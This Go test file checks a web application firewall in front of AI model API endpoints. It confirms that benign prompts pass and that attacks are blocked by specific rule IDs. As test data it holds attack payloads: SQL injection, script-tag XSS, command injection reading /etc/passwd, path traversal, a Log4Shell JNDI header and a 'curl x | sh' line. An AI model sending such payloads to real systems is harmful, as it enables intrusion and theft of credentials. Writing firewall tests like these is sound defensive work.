package edge_test

import (
	"bufio"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"

	"google.golang.org/grpc"

	"github.com/poterne/poterne/pkg/config"
	"github.com/poterne/poterne/services/edge"
	"github.com/poterne/poterne/services/edge/internal/firewall"
	"github.com/poterne/poterne/services/edge/internal/ruleset"
)

// lines reads a file of JSON lines.
func lines[T any](t *testing.T, path string) []T {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	in := bufio.NewScanner(f)
	in.Buffer(nil, 1<<20)
	var out []T
	for in.Scan() {
		var v T
		if err := json.Unmarshal(in.Bytes(), &v); err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		out = append(out, v)
	}
	return out
}

func quote(t *testing.T, v any) string {
	t.Helper()
	raw, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(raw)
}

// Text that speaks about attacks, or quotes them, is what people ask models about.
func TestBenignPromptsAreNotBlocked(t *testing.T) {
	g, w := walled(t, func(c *edge.FirewallConfig) { c.Paranoia = 2 })
	prompts := lines[struct{ Kind, Text string }](t, "testdata/benign-prompts.jsonl")
	if len(prompts) < 500 {
		t.Fatalf("only %d prompts", len(prompts))
	}
	for i, p := range prompts {
		text := quote(t, p.Text)
		for path, body := range map[string]string{
			chatPath:          `{"model":"small","messages":[{"role":"user","content":` + text + `}]}`,
			"/v1/completions": `{"model":"small","prompt":` + text + `}`,
			"/v1/embeddings":  `{"model":"small","input":` + text + `}`,
			"/v1/collections/c/documents:batchUpsert": `{"documents":[{"id":"d","title":"t","text":` + text + `}]}`,
		} {
			if path != chatPath && i%14 != 0 {
				continue
			}
			a := g.do(http.MethodPost, path, body)
			if a.status == http.StatusNotImplemented && strings.HasSuffix(path, ":batchUpsert") {
				continue // the service of this test takes no documents
			}
			if a.status != http.StatusOK {
				rules, _ := w.take()
				t.Errorf("%s, %s: %d %v %s", p.Kind, path, a.status, rules, a.text)
			}
		}
	}
}

// What is natural in searches and administration is not blocked at the level that
// is the default.
func TestBenignRequestsAreNotBlocked(t *testing.T) {
	g, w := walled(t, nil)
	for _, r := range lines[struct {
		Method, Path string
		Body         json.RawMessage
	}](t, "testdata/benign-requests.jsonl") {
		w.take()
		if a := g.do(r.Method, r.Path, string(r.Body)); a.status == http.StatusForbidden {
			rules, _ := w.take()
			t.Errorf("%s %s %s: %v", r.Method, r.Path, r.Body, rules)
		} else if _, asked := w.take(); !asked && a.status != http.StatusOK {
			t.Errorf("%s %s was not judged: %d %s", r.Method, r.Path, a.status, a.text)
		}
	}
}

// What scanners found may be anything, and checkpoints' base64 looks like commands.
func TestEvidenceIsNotBlocked(t *testing.T) {
	g, _ := walled(t, func(c *edge.FirewallConfig) { c.Paranoia = 2 })
	texts := slices.Repeat([]string{"' OR '1'='1 UNION SELECT password FROM users; curl x | sh "}, 20)
	for path, body := range map[string]string{
		"/v1/admin/api-keys:checkLeaked": `{"texts":` + quote(t, texts) + `}`,
		"/v1/admin/audit:verify":         `{"checkpoints":` + quote(t, texts) + `}`,
	} {
		if a := g.do(http.MethodPost, path, body); a.status == http.StatusForbidden {
			t.Errorf("%s: %d %s", path, a.status, a.text)
		}
	}
}

// attacks are requests that must be blocked, and the rule that must find them.
func TestAttacksAreBlocked(t *testing.T) {
	g, w := walled(t, func(c *edge.FirewallConfig) { c.MaxBodyBytes = 4 * config.KiB })
	tests := map[string]struct {
		method, path, body string
		headers            []string
		rule               int
	}{
		"SQL in a search":     {"POST", "/v1/collections/c:search", `{"query":"x' OR '1'='1' UNION SELECT password FROM users--"}`, nil, 942100},
		"escaped in JSON":     {"POST", "/v1/collections/c:search", `{"query":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`, nil, 941100},
		"in a member's name":  {"POST", "/v1/admin/api-keys", `{"x' OR 1=1--":"y","name":"a"}`, nil, 942100},
		"without media type":  {"POST", "/v1/admin/api-keys", `{"name":"; cat /etc/passwd"}`, []string{"Content-Type", ""}, 932160},
		"in a query":          {"GET", "/v1/collections?page_token=%3Cscript%3Ealert(1)%3C/script%3E", "", nil, 941100},
		"in a document's id":  {"GET", "/v1/collections/c/documents/..%2F..%2F..%2Fetc%2Fpasswd", "", nil, 930100},
		"in a header":         {"GET", "/v1/models", "", []string{"Referer", "${jndi:ldap://x/a}"}, 944150},
		"a header on prompts": {"POST", chatPath, hi, []string{"X-Api-Version", "${jndi:ldap://x/a}"}, 944150},
		"in MLflow's DELETE":  {"DELETE", "/api/2.0/mlflow/registered-models/delete", `{"name":"x' OR '1'='1' UNION SELECT 1--"}`, nil, 942100},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			w.take()
			a := g.do(tt.method, tt.path, tt.body, tt.headers...)
			rules, _ := w.take()
			if a.status != http.StatusForbidden || !slices.Contains(rules, tt.rule) {
				t.Errorf("%d, %v; want %d: %s", a.status, rules, tt.rule, a.text)
			}
			if strings.Contains(a.text, strconv.Itoa(tt.rule)) || !strings.Contains(a.text, a.header.Get("X-Request-Id")) {
				t.Errorf("the answer tells too much, or not its id: %s", a.text)
			}
		})
	}
	t.Run("a body that is too large to be judged", func(t *testing.T) {
		if a := g.do("POST", "/v1/collections/c:search", `{"query":"`+strings.Repeat("x", 4<<10)+`"}`); a.status != http.StatusRequestEntityTooLarge {
			t.Errorf("%d %s", a.status, a.text)
		}
	})
	t.Run("strangers are not judged", func(t *testing.T) {
		w.take()
		a := g.do("GET", "/v1/models", "", "Authorization", "Bearer nothing", "Referer", "${jndi:ldap://x/a}")
		if _, asked := w.take(); a.status != http.StatusUnauthorized || asked {
			t.Errorf("%d, judged: %v", a.status, asked)
		}
	})
	t.Run("prompts' headers once", func(t *testing.T) {
		g.do("POST", chatPath, hi)
		w.take()
		g.do("POST", chatPath, strings.Replace(hi, "Hi", "Hello", 1))
		if _, asked := w.take(); asked {
			t.Error("what was found clean is judged again")
		}
	})
}

const sqlSearch = `{"query":"x' OR '1'='1' UNION SELECT password FROM users--"}`

func TestDetectionLetsThrough(t *testing.T) {
	g, w := walled(t, func(c *edge.FirewallConfig) { c.Mode = firewall.Detect })
	if a := g.do("POST", "/v1/collections/c:search", sqlSearch); a.status != http.StatusOK {
		t.Fatalf("%d %s", a.status, a.text)
	}
	if rules, _ := w.take(); !slices.Contains(rules, 942100) {
		t.Errorf("found %v", rules)
	}
}

func TestExclusions(t *testing.T) {
	const route = "POST /v1/collections/{collection}:search"
	g, _ := walled(t, func(c *edge.FirewallConfig) {
		c.Exclusions = []firewall.Exclusion{{Routes: []string{"GET /v1/models", route}, Rules: []string{"942000-942999"}, Targets: []string{"ARGS:json.query"}}}
	})
	if a := g.do("POST", "/v1/collections/c:search", sqlSearch); a.status != http.StatusOK {
		t.Errorf("excluded, and yet %d %s", a.status, a.text)
	}
	if a := g.do("POST", "/v1/collections/c:search", strings.Replace(sqlSearch, "query", "page_token", 1)); a.status != http.StatusForbidden {
		t.Errorf("another member: %d", a.status)
	}
	if a := g.do("POST", "/v1/admin/api-keys", strings.Replace(sqlSearch, "query", "name", 1)); a.status != http.StatusForbidden {
		t.Errorf("another route: %d", a.status)
	}
}

func TestProfilesAreConfigured(t *testing.T) {
	g, _ := walled(t, func(c *edge.FirewallConfig) {
		c.Profiles = map[string]firewall.Profile{"POST /v1/collections/{collection}:search": firewall.Prompt}
	})
	if a := g.do("POST", "/v1/collections/c:search", sqlSearch); a.status != http.StatusOK {
		t.Errorf("%d %s", a.status, a.text)
	}
}

func TestAnUnknownRouteIsAnError(t *testing.T) {
	_, err := newEdge(t, func(c *edge.Config) {
		c.Security.Firewall.Mode = firewall.Block
		c.Security.Firewall.Exclusions = []firewall.Exclusion{{Routes: []string{"GET /v1/nothing"}, Rules: []string{"942100"}}}
	}, edge.WithFirewall(func(edge.FirewallConfig) (edge.FirewallEngine, error) { return new(watched), nil }))
	if err == nil || !strings.Contains(err.Error(), "GET /v1/nothing") {
		t.Errorf("%v", err)
	}
}

// A program that links no rules says so, rather than to run without.
func TestFirewallWithoutRules(t *testing.T) {
	_, err := newEdge(t, func(c *edge.Config) { c.Security.Firewall.Mode = firewall.Detect })
	if err == nil || !strings.Contains(err.Error(), "waf.mode") {
		t.Errorf("%v", err)
	}
}

// A method without a row would be judged in full, prompts and all.
func TestEveryMethodHasAFirewallProfile(t *testing.T) {
	g := build(t, nil)
	server := grpc.NewServer()
	g.RegisterGRPC(server)
	for service, info := range server.GetServiceInfo() {
		for _, m := range info.Methods {
			if rpc := "/" + service + "/" + m.Name; !firewall.Known(rpc) {
				t.Errorf("%s has no row in firewall/profile.go", rpc)
			}
		}
	}
}

// The cost of the firewall on a prompt of 32 KB, whose header is as SDKs send it:
// compare off with on.
func BenchmarkPrompt(b *testing.B) {
	body := `{"model":"small","messages":[{"role":"user","content":` + strconv.Quote(strings.Repeat("SELECT * FROM users; ", 32<<10/21)) + `}]}`
	for _, mode := range []firewall.Mode{firewall.Off, firewall.Block} {
		g := open(b, func(c *edge.Config) {
			c.Security.Firewall.Mode = mode
			c.Security.Limits.RequestsPerMinute = 1_000_000
		}, edge.WithFirewall(ruleset.Open))
		b.Run(string(mode), func(b *testing.B) {
			for b.Loop() {
				r := httptest.NewRequestWithContext(b.Context(), http.MethodPost, chatPath, strings.NewReader(body))
				r.Header = http.Header{
					"Authorization": {"Bearer " + g.key}, "Content-Type": {"application/json"}, "Accept": {"application/json"},
					"User-Agent": {"OpenAI/Python 1.50.0"}, "X-Stainless-Lang": {"python"}, "X-Stainless-Os": {"Linux"},
					"X-Stainless-Runtime": {"CPython"}, "Accept-Encoding": {"gzip, deflate"}, "X-Request-Id": {"r" + strconv.Itoa(b.N)},
				}
				w := httptest.NewRecorder()
				if g.Handler().ServeHTTP(w, r); w.Code != http.StatusOK {
					b.Fatal(w.Code, w.Body)
				}
			}
		})
	}
}
